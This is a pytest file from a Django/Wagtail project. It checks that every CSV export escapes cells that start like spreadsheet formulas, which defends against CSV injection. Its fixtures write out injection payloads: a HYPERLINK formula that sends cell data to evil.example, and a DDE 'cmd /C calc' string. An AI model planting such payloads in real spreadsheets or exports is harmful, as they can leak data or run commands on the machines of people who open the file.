"""CSV exports: no cell a spreadsheet would run as a formula (OWASP CSV injection), in
every CSV the project writes: its own views, its Wagtail viewsets and Wagtail's reports."""

import ast
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from tests import factories
from tests.core.test_code_rules import ROOT, _modules
from training.core.exports import csv_response, neutralise
from training.people.models import Team

FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\0=1"]


def _cells(response) -> list[list[str]]:
    content = response.streaming_content if response.streaming else [response.content]
    body = b"".join(content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


# The rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_single_quote(formula):
    assert neutralise(formula) == "'" + formula


@pytest.mark.parametrize(
    "value", ["Sam Example", "", " =1", "a=b", "Team-1", 42, -3, 1.5, Decimal("-2.5"), None]
)
def test_everything_else_is_left_as_it_is(value):
    assert neutralise(value) == value


def test_objects_are_written_as_their_text_neutralised():
    class Person:
        def __str__(self):
            return '=HYPERLINK("https://evil.example/?"&A1,"Click")'

    assert neutralise(Person()) == "'" + str(Person())
    assert neutralise(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)


def test_a_csv_response_quotes_escapes_and_neutralises_every_cell():
    response = csv_response(
        "people.csv",
        [["name", "team"], ['=HYPERLINK("https://evil.example","x")', "-1"], ["Sam", 3]],
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    body = response.content.decode()
    assert body == ('name,team\r\n"\'=HYPERLINK(""https://evil.example"",""x"")",\'-1\r\nSam,3\r\n')


# Each export ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_membership_export_neutralises_names_and_teams(client, signed_in, council):
    person = factories.learner(council, full_name="=cmd|' /C calc'!A0")
    membership = person.memberships.get()
    membership.team = Team.objects.create(council=council, name="@SUM(1+1)*cmd|' /C calc'!A0")
    membership.save()
    signed_in(factories.platform_admin())
    response = client.get(reverse("memberships:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = _cells(response)
    row = next(row for row in rows[1:] if council.name in row[1])
    assert row[0] == "'=cmd|' /C calc'!A0"
    assert row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_council_export_neutralises_names(client, signed_in):
    factories.CouncilFactory(name="+Testshire", region_name="-East")
    signed_in(factories.platform_admin())
    response = client.get(reverse("councils:index"), {"export": "csv", "q": "Testshire"})
    rows = _cells(response)
    assert [row[0] for row in rows[1:]] == ["'+Testshire"]
    assert rows[1][3] == "'-East"


@pytest.mark.django_db
def test_wagtails_own_reports_neutralise_the_names_they_export(client, signed_in):
    course = factories.course(modules=0)
    log(instance=course, action="wagtail.edit", user=factories.editor(full_name="=1+1"))
    signed_in(factories.platform_admin())
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    rows = _cells(response)
    assert "'=1+1" in [cell for row in rows for cell in row]
    assert "=1+1" not in [cell for row in rows for cell in row]


@pytest.mark.django_db
def test_the_staff_template_is_written_through_csv_response(client, signed_in, council):
    factories.EmailDomainFactory(council=council, domain="leeds.example")
    signed_in(factories.training_lead(council))
    response = client.get(reverse("people:staff_csv_template", args=[council.gss_code]))
    assert response["Content-Disposition"] == 'attachment; filename="cotrain-staff-template.csv"'
    assert _cells(response) == [
        ["name", "email", "team", "job role"],
        ["Sam Example", "sam.example@leeds.example", "Disabled children's team", "Social worker"],
    ]


# Every export there is, and every one to come ---------------------------------------------


def _export_views():
    """(route, view class, init kwargs) of every view in the URLs that exports a spreadsheet:
    Cotrain's viewsets, Wagtail's reports and any app's."""

    def walk(resolver, prefix=""):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class and issubclass(view_class, SpreadsheetExportMixin):
                    kwargs = getattr(pattern.callback, "view_initkwargs", {})
                    if kwargs.get("list_export") or view_class.list_export:
                        yield prefix + str(pattern.pattern), view_class, kwargs

    return list(walk(get_resolver()))


def test_the_meta_test_finds_cotrains_and_wagtails_exports():
    routes = {route for route, _view, _kwargs in _export_views()}
    assert {"admin/memberships/", "admin/councils/", "admin/reports/site-history/"} <= routes


@pytest.mark.parametrize(
    ("route", "view_class", "kwargs"), _export_views(), ids=lambda v: str(v)[:60]
)
def test_every_csv_export_in_the_urls_writes_through_neutralise(route, view_class, kwargs):
    """Whatever an export view's rows hold, its CSV response holds no formula: the view
    streams its lines through training.core.exports, not a writer of its own."""
    view = view_class(**kwargs)
    view.setup(RequestFactory().get(f"/{route}?export=csv"))
    fields = list(view.list_export)
    view.get_heading = lambda queryset, field: "=heading"
    view.to_row_dict = lambda item: dict.fromkeys(fields, "=1+1")
    view.preprocess_field_value = lambda field, value, export_format: value
    response = view.as_spreadsheet([object(), object()], "csv")
    assert _cells(response) == [["'=heading"] * len(fields), *[["'=1+1"] * len(fields)] * 2]


def test_only_the_exports_module_writes_csv():
    """A new export cannot forget the rule: csv.writer and csv.DictWriter appear only in
    training/core/exports.py (reading CSV, as the staff upload does, is fine)."""
    found = []
    for path in _modules():
        if path == ROOT / "training" / "core" / "exports.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                names = {alias.name for alias in node.names} & {"writer", "DictWriter"}
                found += [f"{path.relative_to(ROOT)}:{node.lineno} {name}" for name in names]
    assert not found, "Write CSV with training.core.exports.csv_response:\n" + "\n".join(found)
